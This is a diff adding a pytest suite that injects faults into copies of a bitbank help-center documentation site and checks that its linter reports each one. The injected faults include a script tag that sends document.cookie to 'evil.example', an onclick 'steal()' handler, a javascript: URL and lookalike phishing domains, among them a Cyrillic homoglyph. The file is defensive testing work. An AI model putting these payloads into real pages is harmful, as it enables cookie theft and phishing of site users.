@@ -1,0 +1,252 @@
+"""Inject each fault the issue lists into a copy of the real project, build, check.
+
+Every fault gets its own copy (mkdocs.yml, docs/, overrides/, data/; scripts/ linked),
+and `python -m helpcenter.check --config COPY/mkdocs.yml` builds and checks it, exactly as
+`scripts/check` does. The copies run in parallel. A fault must make the check exit 1 and
+add a problem at the expected file and line (found in the edited file, not hard-coded) and
+nothing outside its expected rules, compared with an untouched copy (so the tests stay
+meaningful while the real docs still have problems of their own).
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import subprocess
+import sys
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parents[1]
+COPIED = ["mkdocs.yml", "docs", "overrides", "data"]
+LINE = re.compile(r"^(?P<path>[^:]+):(?P<line>\d+): (?P<rule>[\w-]+): (?P<message>.*)$")
+
+
+@dataclass
+class Fault:
+    id: str
+    edit: Callable[[Path], None]
+    rule: str
+    path: str | None  # file the problem must name; None when only the rule matters
+    needle: str | None = None  # the problem's line is the line of this text in `path`
+    also: set[str] = field(default_factory=set)  # other rules the fault may set off
+    message: str | None = None  # text the problem's message must contain
+
+
+def append(rel: str, text: str) -> Callable[[Path], None]:
+    def run(root: Path) -> None:
+        path = root / rel
+        path.write_text(path.read_text(encoding="utf-8").rstrip("\n") + "\n\n" + text + "\n", encoding="utf-8")
+    return run
+
+
+def front_matter(rel: str, block: str, body: str = "") -> Callable[[Path], None]:
+    """Replace the page's front matter (whatever it is now) with `block`."""
+    def run(root: Path) -> None:
+        path = root / rel
+        text = path.read_text(encoding="utf-8")
+        if text.startswith("---\n"):
+            text = text.split("\n---\n", 1)[1]
+        path.write_text(f"---\n{block}\n---\n{text.rstrip()}\n{body}", encoding="utf-8")
+    return run
+
+
+def delete(rel: str) -> Callable[[Path], None]:
+    return lambda root: (root / rel).unlink()
+
+
+def add_nav_entry(root: Path) -> None:
+    path = root / "mkdocs.yml"
+    text = path.read_text(encoding="utf-8")
+    assert "\nnav:\n" in text
+    path.write_text(text.replace("\nnav:\n", "\nnav:\n  - Gone: gone.md\n", 1), encoding="utf-8")
+
+
+EN = "docs/en/contact/index.md"
+JA = "docs/ja/contact/index.md"
+GOOD_FM = "title: Injected\ndescription: A page with valid front matter."
+
+FAULTS = [
+    Fault("missing-page", append(EN, "[Gone](nope.md)"), "link-target", EN, "(nope.md)"),
+    Fault("missing-anchor", append(EN, "See [email support](#email-support)."), "link-anchor", EN,
+          "(#email-support)", message="#email-support does not exist in contact/index.md"),
+    Fault("missing-anchor-other-page", append(JA, "[手数料](../faq.md#no-such-question)"), "link-anchor", JA,
+          "no-such-question", message="#no-such-question does not exist in faq.md"),
+    Fault("missing-image", append(EN, "![Diagram](diagram.png)"), "link-image", EN, "diagram.png"),
+    Fault("unresolved-reference", append(JA, "[フォーム][inquiry_form]から"), "link-reference", JA, "[inquiry_form]"),
+    Fault("broken-navigation", add_nav_entry, "link-target", None, also={"build-warning"},
+          message="navigation link to gone.md"),
+    Fault("missing-translation", delete("docs/en/security.md"), "parity-pages", "docs/ja/security.md",
+          also={"link-target", "link-anchor", "build-warning"}),
+    Fault("extra-section", append("docs/en/faq.md", "## Injected section {#injected-section}\n\nText."),
+          "parity-sections", "docs/en/faq.md", "{#injected-section}"),
+    Fault("lookalike-hyphen", append(EN, "[Support](https://bitbank-support.com/)"), "external-domain", EN,
+          "bitbank-support.com"),
+    Fault("lookalike-suffix", append(EN, "[Login](https://bitbank.cc.example.net/login)"), "external-domain", EN,
+          "bitbank.cc.example.net"),
+    Fault("lookalike-cyrillic", append(JA, "[公式サイト](https://bitb\u0430nk.cc/)"), "external-domain", JA,
+          "https://bitb\u0430nk.cc/", message="CYRILLIC"),
+    Fault("plain-http", append(EN, "[Website](http://bitbank.cc/)"), "external-https", EN, "http://bitbank.cc/"),
+    Fault("foreign-mailto", append(JA, "[メール](mailto:help@bitbank-support.com)"), "contact-mailto", JA,
+          "mailto:help@bitbank-support.com"),
+    Fault("tel-link", append(EN, "[Call us](tel:+81-3-1234-5678)"), "contact-tel", EN, "tel:"),
+    Fault("phone-text", append(JA, "お急ぎの方はお電話で：０３－１２３４－５６７８"), "contact-phone", JA, "お電話で"),
+    Fault("no-title", front_matter("docs/ja/faq.md", "description: Only a description."), "frontmatter-required",
+          "docs/ja/faq.md", message="`title`"),
+    Fault("no-description", front_matter("docs/en/faq.md", "title: Only a title"), "frontmatter-required",
+          "docs/en/faq.md", message="`description`"),
+    Fault("unknown-key", front_matter("docs/ja/security.md", GOOD_FM + "\nauthor: someone"),
+          "frontmatter-unknown-key", "docs/ja/security.md", "author:"),
+    Fault("bad-yaml", front_matter("docs/ja/security.md", "title: Staying safe: the basics\ndescription: x"),
+          "frontmatter-syntax", "docs/ja/security.md", "title:", also={"frontmatter-required"}),
+    Fault("script", append(EN, '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'),
+          "html-element", EN, "<script>"),
+    Fault("iframe", append(JA, '<iframe src="https://bitbank.cc/"></iframe>'), "html-element", JA, "<iframe"),
+    Fault("onclick", append(EN, '<a href="#email" onclick="steal()">Email</a>'), "html-event-handler", EN,
+          "onclick="),
+    Fault("javascript-url", append(JA, "[クリック](javascript:alert(1))"), "html-javascript-url", JA, "javascript:"),
+]
+
+CONFLICTING = {"bad-yaml"}  # rewrites the front matter that unknown-key rewrites too
+
+# Changes that are fine: the check must add no problem for them.
+HARMLESS = {
+    "query-string": append(EN, "[Compose](compose.md?category=trading) or [write](compose.md?category=other#top)"),
+    "official-subdomain": append(JA, "[ヘルプ](https://support.bitbank.cc/hc/ja/articles/1)"),
+    "declared-section-difference": front_matter(
+        "docs/en/faq.md", GOOD_FM + "\nsections_differ: the English page adds a glossary",
+        "\n## Glossary {#glossary}\n\nText.\n"),
+    "allowlisted-host": lambda root: (
+        append(EN, "[FSA](https://www.fsa.go.jp/en/index.html)")(root),
+        (root / "data/check").mkdir(parents=True, exist_ok=True),
+        (root / "data/check/external-allowlist.txt").write_text("# regulator\nhttps://www.fsa.go.jp/en/\n"),
+    ),
+}
+
+
+def _copy(target: Path) -> Path:
+    target.mkdir(parents=True)
+    for name in COPIED:
+        src = ROOT / name
+        if src.is_dir():
+            shutil.copytree(src, target / name, ignore=shutil.ignore_patterns("__pycache__"))
+        elif src.exists():
+            shutil.copy2(src, target / name)
+    (target / "scripts").symlink_to(ROOT / "scripts")  # the hooks are loaded by path from the config
+    return target
+
+
+def _check(root: Path) -> tuple[int, list[str], str]:
+    env = {**os.environ, "PYTHONPATH": str(ROOT / "scripts"), "NO_MKDOCS_2_WARNING": "1"}
+    done = subprocess.run([sys.executable, "-m", "helpcenter.check", "--config", str(root / "mkdocs.yml")],
+                          cwd=root, env=env, capture_output=True, text=True, timeout=300)
+    return done.returncode, done.stdout.splitlines(), done.stderr
+
+
+@pytest.fixture(scope="module")
+def results(tmp_path_factory) -> dict[str, tuple[int, list[str], str, Path]]:
+    """Baseline, each fault and each harmless change, built and checked in parallel."""
+    base = tmp_path_factory.mktemp("inject")
+    edits: dict[str, Callable[[Path], None] | None] = {"baseline": None}
+    edits |= {f.id: f.edit for f in FAULTS} | HARMLESS
+    edits["all-at-once"] = lambda root: [f.edit(root) for f in FAULTS if f.id not in CONFLICTING]
+    roots = {}
+    for name, edit in edits.items():
+        roots[name] = _copy(base / name)
+        if edit is not None:
+            edit(roots[name])
+    with ThreadPoolExecutor(max_workers=os.cpu_count() or 2) as pool:
+        done = dict(zip(roots, pool.map(_check, roots.values()), strict=True))
+    return {name: (*done[name], roots[name]) for name in roots}
+
+
+def _new_problems(results, name: str) -> list[re.Match[str]]:
+    baseline = set(results["baseline"][1])
+    found = []
+    for line in results[name][1]:
+        if line not in baseline:
+            m = LINE.match(line)
+            assert m, f"not in path:line: rule: message form: {line!r}"
+            found.append(m)
+    return found
+
+
+def _line_of(path: Path, needle: str) -> int:
+    lines = path.read_text(encoding="utf-8").splitlines()
+    hits = [no for no, line in enumerate(lines, start=1) if needle in line]
+    assert hits, f"{needle!r} not in {path}"
+    return hits[-1]  # faults are appended, so the last occurrence is the injected one
+
+
+def test_baseline_runs(results):
+    code, _, stderr, _ = results["baseline"]
+    assert code in (0, 1), stderr
+    assert "scripts/check:" in stderr
+
+
+@pytest.mark.parametrize("fault", FAULTS, ids=lambda f: f.id)
+def test_injected_fault_is_reported(results, fault: Fault):
+    code, lines, stderr, root = results[fault.id]
+    assert code == 1, f"exit {code}\n{stderr}"
+    new = _new_problems(results, fault.id)
+    ours = [m for m in new if m["rule"] == fault.rule and (fault.path is None or m["path"] == fault.path)]
+    assert ours, "expected a " + fault.rule + " problem; new problems:\n" + "\n".join(m[0] for m in new)
+    if fault.needle is not None:
+        expected = _line_of(root / fault.path, fault.needle)
+        assert expected in {int(m["line"]) for m in ours}, "\n".join(m[0] for m in ours)
+    if fault.message is not None:
+        assert any(fault.message in m["message"] for m in ours), "\n".join(m[0] for m in ours)
+    stray = [m[0] for m in new if m["rule"] not in {fault.rule} | fault.also]
+    assert not stray, "unexpected problems:\n" + "\n".join(stray)
+
+
+def test_issue_example_format(results):
+    """The issue's own example, to the letter, up to the fix hint after the semicolon."""
+    _, lines, _, root = results["missing-anchor"]
+    line = _line_of(root / EN, "(#email-support)")
+    prefix = f"{EN}:{line}: link-anchor: #email-support does not exist in contact/index.md"
+    assert any(text.startswith(prefix) for text in lines), "\n".join(lines)
+
+
+def test_missing_translation_breaks_the_language_switcher(results):
+    messages = [m["message"] for m in _new_problems(results, "missing-translation")]
+    assert any("language switcher" in text for text in messages), "\n".join(messages)
+
+
+def test_broken_navigation_is_reported_once_against_a_built_page(results):
+    """A nav entry repeats on every page: one problem at a built page, plus the build warning at the entry."""
+    new = _new_problems(results, "broken-navigation")
+    template = [m for m in new if m["rule"] == "link-target"]
+    assert len(template) == 1, "\n".join(m[0] for m in new)
+    assert re.fullmatch(r"site/(en/)?[\w/-]+\.html", template[0]["path"]) and "other built pages" in template[0][0]
+    line = _line_of(results["broken-navigation"][3] / "mkdocs.yml", "gone.md")
+    assert [f"{m['path']}:{m['line']}" for m in new if m["rule"] == "build-warning"] == [f"mkdocs.yml:{line}"]
+
+
+def test_all_faults_at_once_are_all_reported(results):
+    """One run reports every problem, not just the first."""
+    code, _, stderr, root = results["all-at-once"]
+    assert code == 1, stderr
+    new = _new_problems(results, "all-at-once")
+    missing = []
+    for fault in FAULTS:
+        if fault.id in CONFLICTING:
+            continue
+        ours = [m for m in new if m["rule"] == fault.rule and (fault.path is None or m["path"] == fault.path)]
+        if fault.needle is not None:
+            line = _line_of(root / fault.path, fault.needle)
+            ours = [m for m in ours if int(m["line"]) == line]
+        if not ours:
+            missing.append(fault.id)
+    assert not missing, "not reported: " + ", ".join(missing) + "\n" + "\n".join(m[0] for m in new)
+
+
+@pytest.mark.parametrize("name", list(HARMLESS))
+def test_harmless_change_adds_no_problem(results, name: str):
+    new = _new_problems(results, name)
+    assert not new, "\n".join(m[0] for m in new)
